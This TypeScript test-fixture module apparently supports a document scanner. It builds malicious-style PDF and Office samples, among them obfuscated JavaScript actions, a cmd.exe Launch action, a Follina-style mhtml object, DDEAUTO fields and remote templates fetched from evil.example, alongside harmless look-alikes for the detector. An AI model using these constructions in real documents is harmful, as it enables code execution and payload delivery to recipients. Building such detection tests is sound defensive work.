// Documents that act: PDF with disguised names and packed objects, office documents that ask others; and honest ones that look alike.

import { deflateSync } from 'node:zlib'
import { office, pdf } from '../samples'

const text = (value: string) => Buffer.from(value, 'latin1')

type Packing = { more?: string; bytes?: Buffer; entry?: string }

/** A PDF whose objects are packed into one stream; `entry` are more objects in plain sight. */
export function packedPdf(objects: string, { more = '/Filter/FlateDecode', bytes, entry = '' }: Packing = {}): Buffer {
  const header = `1 0 7 ${objects.indexOf('\n') + 1} `
  const data = bytes ?? deflateSync(text(header + objects))
  return Buffer.concat([
    text(`%PDF-1.5\n${entry}9 0 obj<</Type/ObjStm/N 2/First ${header.length}/Length ${data.length}${more}>>stream\n`),
    data,
    text('\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
  ])
}

const catalog = (inside: string) => `<</Type/Catalog/Pages 2 0 R${inside}>>\n<</S/GoTo/D[3 0 R/Fit]>>`
const hidden = '/Names<</JavaScript 8 0 R>>'

/** Something that is no picture of objects, and then what is. */
const behindDecoy = () =>
  Buffer.concat([
    text('%PDF-1.5\n9 0 obj<</Type/ObjStm/X(endobj)/N 1/First 4/Filter/FlateDecode>>stream\n'),
    deflateSync(text(`1 0 ${catalog(hidden)}`)),
    text('\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
  ])

const lyingAboutLength = (bytes: Buffer) => text(bytes.toString('latin1').replace(/\/Length \d+/, '/Length 9'))

export const activePdfs = (): [why: string, bytes: Buffer][] => [
  ...[
    '/OpenAction<</S/J#61vaScript/#4aS(app.alert(1))>>',
    '/Names<</J#61#76#61Script 5 0 R>>',
    '/X<</#4aS(app.alert(1))>>',
    '/X<</J#53(app.alert(1))>>',
    '/X<</S/#4Caunch/F(cmd.exe)>>',
    '/Names<</Embedded#46iles 5 0 R>>',
    '/#41A<</O 5 0 R>>',
    '/AA<</O<</S/URI/URI(https://evil.example)>>>>',
    '/OpenAction<</S/URI/URI(https://evil.example)>>',
    '/Open#41ction<</S/Named/N/Print>>',
    '/OpenAction 5 0 R',
    '/X<</S/SubmitForm/F(https://evil.example)>>',
    '/X<</S/ImportData/F(x)>>',
    '/X<</S/GoToR/F(\\\\\\\\evil.example\\\\x.pdf)>>',
  ].map((inside): [string, Buffer] => [`PDF with ${inside}`, pdf(inside)]),
  ['PDF with a script in packed objects', packedPdf(catalog(hidden))],
  ['PDF with a disguised script in packed objects', packedPdf(catalog('/X<</J#53(x)>>'))],
  ['PDF with packed additional actions', packedPdf(catalog('/AA<</O 8 0 R>>'))],
  ['PDF with packed objects that open an address', packedPdf(catalog('/OpenAction<</S/URI/URI(https://evil.example)>>'))],
  ['PDF with a packed opening that leads elsewhere', packedPdf(catalog('/OpenAction 1 0 R'))],
  ['PDF with packed objects behind a second filter', packedPdf(catalog(hidden), { more: '/Filter[/ASCIIHexDecode/FlateDecode]' })],
  ['PDF with packed objects behind a predictor', packedPdf(catalog(''), { more: '/Filter/FlateDecode/DecodeParms<</Predictor 12>>' })],
  ['PDF with packed objects whose filter stands elsewhere', packedPdf(catalog(hidden), { more: '/Filter 6 0 R' })],
  ['PDF with packed objects that cannot be read', packedPdf(catalog(''), { bytes: Buffer.alloc(400, 7) })],
  ['PDF with packed objects that say they are shorter', lyingAboutLength(packedPdf(catalog(hidden)))],
  ['PDF with packed objects that unpack for ever', packedPdf(catalog(''), { bytes: deflateSync(Buffer.alloc(64 * 1024 ** 2, 32)) })],
  ['PDF whose dictionary hides what it is', behindDecoy()],
  ['PDF with a name across the end of a piece', pdf(`/Title(${'x'.repeat(256 * 1024 - 70)})/Names<</J#61vaScript 5 0 R>>`)],
]

const relation = (type: string, target: string, mode = ' TargetMode="External"') =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`
const field = (instruction: string) => `<w:document><w:p><w:r>${instruction}</w:r></w:p></w:document>`

type Paper = [why: string, name: string, bytes: Buffer]

export const activeOffice = (): Paper[] => [...sheets(), ...relations(), ...fields()]

const sheets = (): Paper[] => [
  ['sheet with an external link', 'links.xlsx', office('xlsx', { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' })],
  [
    'sheet that leads to another workbook',
    'path.xlsx',
    office('xlsx', { 'xl/_rels/workbook.xml.rels': relation('externalLinkPath', 'file:///\\\\evil.example\\x.xlsx') }),
  ],
  ['sheet with a live connection', 'live.xlsx', office('xlsx', { 'xl/connections.xml': '<connections/>' })],
  ['sheet with an old macro', 'xlm.xlsx', office('xlsx', { 'xl/macrosheets/sheet1.xml': '<x/>' })],
  ['sheet with an embedded object', 'ole.xlsx', office('xlsx', { 'xl/embeddings/oleObject1.bin': 'x' })],
  [
    'sheet with macros under another name',
    'renamed.xlsx',
    office('xlsx', {
      '[Content_Types].xml': '<Types><Override PartName="/xl/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    }),
  ],
  [
    'sheet with an embedded object under another name',
    'renamed2.xlsx',
    office('xlsx', { 'xl/worksheets/_rels/sheet1.xml.rels': relation('oleObject', '../embeddings/x.dat', '') }),
  ],
  [
    'sheet with a picture from elsewhere',
    'beacon.xlsx',
    office('xlsx', { 'xl/drawings/_rels/drawing1.xml.rels': relation('image', 'https://evil.example/x.png') }),
  ],
]

const relations = (): Paper[] => [
  [
    'document with a template from elsewhere',
    'template.docx',
    office('docx', { 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://evil.example/x.dotm') }),
  ],
  [
    'document with an object from elsewhere',
    'follina.docx',
    office('docx', {
      'word/_rels/document.xml.rels': relation('oleObject', 'mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html'),
    }),
  ],
  [
    'document with a disguised relation',
    'entity.docx',
    office('docx', { 'word/_rels/document.xml.rels': relation('image', 'https://evil.example/x.png', ' TargetMode="&#69;xternal"') }),
  ],
  [
    'document whose relation does not say that it is external',
    'quiet.docx',
    office('docx', { 'word/_rels/document.xml.rels': relation('image', 'https://evil.example/x.png', '') }),
  ],
  [
    'document whose relations are written in another encoding',
    'utf16.docx',
    office('docx', {
      'word/_rels/document.xml.rels': Buffer.from(relation('oleObject', 'https://evil.example'), 'utf16le').toString('latin1'),
    }),
  ],
  [
    'document whose relations have entities of their own',
    'doctype.docx',
    office('docx', { 'word/_rels/document.xml.rels': `<!DOCTYPE r [<!ENTITY e "External">]>${relation('image', 'x')}` }),
  ],
  [
    'document with a link to a file share',
    'share.docx',
    office('docx', { 'word/_rels/document.xml.rels': relation('hyperlink', 'file://evil.example/share') }),
  ],
  [
    'document with a link that runs',
    'runs.docx',
    office('docx', { 'word/_rels/document.xml.rels': relation('hyperlink', 'javascript:alert(1)') }),
  ],
]

const fields = (): Paper[] => [
  [
    'document that starts a program by a field',
    'dde.docx',
    office('docx', { 'word/document.xml': field('<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>') }),
  ],
  [
    'document with a field in pieces',
    'dde2.docx',
    office('docx', {
      'word/document.xml': field('<w:instrText>DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">EAUTO cmd</w:instrText>'),
    }),
  ],
  [
    'document with a field in a header',
    'dde3.docx',
    office('docx', { 'word/header1.xml': '<w:hdr><w:fldSimple w:instr="DDE cmd"/></w:hdr>' }),
  ],
  [
    'talk with a film from elsewhere',
    'film.pptx',
    office('pptx', { 'ppt/slides/_rels/slide1.xml.rels': relation('video', 'https://evil.example/x.mp4') }),
  ],
]

/** What looks a little like the above and is taken: pages that open, links to click, pictures of one's own. */
export const harmlessPapers = (): [name: string, bytes: Buffer][] => [
  ['opens-page.pdf', pdf('/OpenAction[3 0 R/FitH 800]')],
  ['opens-place.pdf', pdf('/OpenAction<</S/GoTo/D[3 0 R/Fit]>>')],
  ['opens-object.pdf', pdf('/OpenAction 5 0 R>>endobj\n5 0 obj [3 0 R/Fit] endobj\n6 0 obj<<')],
  ['link.pdf', pdf('/Annots[<</Subtype/Link/A<</S/URI/URI(https://example.com)>>>>]')],
  ['odd-names.pdf', pdf('/Lime#20Green 1/A#42 2/AAB 3/JSON 4')],
  ['packed.pdf', packedPdf(catalog('/OpenAction 7 0 R'))],
  [
    'picture.pdf',
    packedPdf(catalog(''), { entry: `4 0 obj<</Subtype/Image/Length 600000>>stream\n${'/JS /AA '.repeat(75_000)}\nendstream endobj\n` }),
  ],
  ['links.docx', office('docx', { 'word/_rels/document.xml.rels': relation('hyperlink', 'https://example.com/?a=1&amp;b=2') })],
  ['links.xlsx', office('xlsx', { 'xl/worksheets/_rels/sheet1.xml.rels': relation('hyperlink', 'mailto:a@example.com') })],
  ['own-picture.docx', office('docx', { 'word/_rels/document.xml.rels': relation('image', 'media/image1.png', '') })],
  [
    'chart.pptx',
    office('pptx', {
      'ppt/embeddings/Microsoft_Excel_Sheet1.xlsx': 'x',
      'ppt/charts/_rels/chart1.xml.rels': relation('package', '../embeddings/Microsoft_Excel_Sheet1.xlsx', ''),
    }),
  ],
  ['fields.docx', office('docx', { 'word/document.xml': field('<w:instrText> PAGE \\* MERGEFORMAT </w:instrText>') })],
]
